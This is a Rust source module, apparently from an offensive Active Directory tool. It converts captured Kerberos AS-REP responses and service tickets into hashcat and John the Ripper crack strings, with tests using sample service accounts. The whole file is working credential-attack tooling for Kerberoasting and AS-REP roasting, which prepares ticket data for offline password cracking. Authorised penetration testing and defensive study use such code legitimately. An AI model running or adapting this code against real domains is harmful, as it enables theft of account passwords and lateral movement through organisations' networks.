//! Crack strings for john and hashcat built from roastable ticket material.

use super::engine::KdcError;
use super::etype::Etype;
use super::spec::TargetDescriptor;
use kerberos_asn1::{Asn1Object, AsRep, Ticket};

const RC4_CHECKSUM_LEN: usize = 16;
const AES_CHECKSUM_LEN: usize = 12;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, clap::ValueEnum)]
pub enum CrackFormat {
    #[default]
    Hashcat,
    John,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TicketSource {
    AsRep,
    ServiceTicket,
}

/// Encrypted part of an AS-REP or a service ticket, tagged with the account
/// it belongs to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RoastTicket {
    pub source: TicketSource,
    pub username: String,
    pub realm: String,
    pub service: String,
    pub etype: i32,
    pub cipher: Vec<u8>,
}

impl RoastTicket {
    pub fn new(
        source: TicketSource,
        username: impl Into<String>,
        realm: impl Into<String>,
        service: impl Into<String>,
        etype: i32,
        cipher: Vec<u8>,
    ) -> Result<Self, KdcError> {
        let needed = checksum_len(etype);
        if cipher.len() <= needed {
            return Err(KdcError::Decode(format!(
                "encrypted part too short ({} bytes) for etype {}",
                cipher.len(),
                etype
            )));
        }

        Ok(Self {
            source,
            username: username.into(),
            realm: realm.into(),
            service: service.into(),
            etype,
            cipher,
        })
    }

    pub fn from_as_rep(username: &str, as_rep: &AsRep) -> Result<Self, KdcError> {
        Self::new(
            TicketSource::AsRep,
            username,
            as_rep.crealm.clone(),
            String::new(),
            as_rep.enc_part.etype,
            as_rep.enc_part.cipher.clone(),
        )
    }

    pub fn from_ticket(target: &TargetDescriptor, ticket: &Ticket) -> Result<Self, KdcError> {
        Self::new(
            TicketSource::ServiceTicket,
            target.username.clone(),
            ticket.realm.clone(),
            target.principal(),
            ticket.enc_part.etype,
            ticket.enc_part.cipher.clone(),
        )
    }

    /// Converts a DER encoded ticket, as handed out by the OS ticket API.
    pub fn from_ticket_der(target: &TargetDescriptor, raw: &[u8]) -> Result<Self, KdcError> {
        let (_, ticket) =
            Ticket::parse(raw).map_err(|e| KdcError::Decode(format!("ticket: {:?}", e)))?;
        Self::from_ticket(target, &ticket)
    }

    pub fn to_crack_string(&self, format: CrackFormat) -> String {
        let (checksum, edata) = split_checksum(self.etype, &self.cipher);
        let checksum = hex::encode(checksum);
        let edata = hex::encode(edata);

        match (self.source, format) {
            (TicketSource::AsRep, CrackFormat::Hashcat) => format!(
                "$krb5asrep${}${}@{}:{}${}",
                self.etype, self.username, self.realm, checksum, edata
            ),
            (TicketSource::AsRep, CrackFormat::John) => format!(
                "$krb5asrep${}@{}:{}${}",
                self.username, self.realm, checksum, edata
            ),
            (TicketSource::ServiceTicket, CrackFormat::Hashcat) => {
                let service = self.service.replace(':', "~");
                if is_aes(self.etype) {
                    format!(
                        "$krb5tgs${}${}${}$*{}*${}${}",
                        self.etype, self.username, self.realm, service, checksum, edata
                    )
                } else {
                    format!(
                        "$krb5tgs${}$*{}${}${}*${}${}",
                        self.etype, self.username, self.realm, service, checksum, edata
                    )
                }
            }
            (TicketSource::ServiceTicket, CrackFormat::John) => format!(
                "$krb5tgs${}@{}${}:{}${}",
                self.username,
                self.realm,
                self.service.replace(':', "~"),
                checksum,
                edata
            ),
        }
    }
}

fn is_aes(etype: i32) -> bool {
    Etype::from_id(etype).map_or(false, Etype::is_aes)
}

fn checksum_len(etype: i32) -> usize {
    if is_aes(etype) {
        AES_CHECKSUM_LEN
    } else {
        RC4_CHECKSUM_LEN
    }
}

// RC4 carries its HMAC up front, AES appends a truncated one.
fn split_checksum(etype: i32, cipher: &[u8]) -> (&[u8], &[u8]) {
    if is_aes(etype) {
        let (edata, checksum) = cipher.split_at(cipher.len() - AES_CHECKSUM_LEN);
        (checksum, edata)
    } else {
        cipher.split_at(RC4_CHECKSUM_LEN)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cipher(len: usize) -> Vec<u8> {
        (0..len).map(|i| i as u8).collect()
    }

    #[test]
    fn asrep_rc4_hashcat() {
        let ticket =
            RoastTicket::new(TicketSource::AsRep, "bob", "CORP.LOCAL", "", 23, cipher(20)).unwrap();
        assert_eq!(
            ticket.to_crack_string(CrackFormat::Hashcat),
            "$krb5asrep$23$bob@CORP.LOCAL:000102030405060708090a0b0c0d0e0f$10111213"
        );
        assert_eq!(
            ticket.to_crack_string(CrackFormat::John),
            "$krb5asrep$bob@CORP.LOCAL:000102030405060708090a0b0c0d0e0f$10111213"
        );
    }

    #[test]
    fn tgs_rc4_hashcat() {
        let ticket = RoastTicket::new(
            TicketSource::ServiceTicket,
            "svc_sql",
            "CORP.LOCAL",
            "MSSQLSvc/db01:1433",
            23,
            cipher(18),
        )
        .unwrap();
        assert_eq!(
            ticket.to_crack_string(CrackFormat::Hashcat),
            "$krb5tgs$23$*svc_sql$CORP.LOCAL$MSSQLSvc/db01~1433*$000102030405060708090a0b0c0d0e0f$1011"
        );
    }

    #[test]
    fn tgs_aes_takes_trailing_checksum() {
        let ticket = RoastTicket::new(
            TicketSource::ServiceTicket,
            "svc_web",
            "CORP.LOCAL",
            "svc_web@CORP.LOCAL",
            18,
            cipher(14),
        )
        .unwrap();
        assert_eq!(
            ticket.to_crack_string(CrackFormat::Hashcat),
            "$krb5tgs$18$svc_web$CORP.LOCAL$*svc_web@CORP.LOCAL*$02030405060708090a0b0c0d$0001"
        );
        assert_eq!(
            ticket.to_crack_string(CrackFormat::John),
            "$krb5tgs$svc_web@CORP.LOCAL$svc_web@CORP.LOCAL:02030405060708090a0b0c0d$0001"
        );
    }

    #[test]
    fn short_cipher_is_rejected() {
        let err = RoastTicket::new(TicketSource::AsRep, "bob", "CORP", "", 23, cipher(16));
        assert!(matches!(err, Err(KdcError::Decode(_))));
        let err = RoastTicket::new(TicketSource::AsRep, "bob", "CORP", "", 17, cipher(12));
        assert!(matches!(err, Err(KdcError::Decode(_))));
    }
}
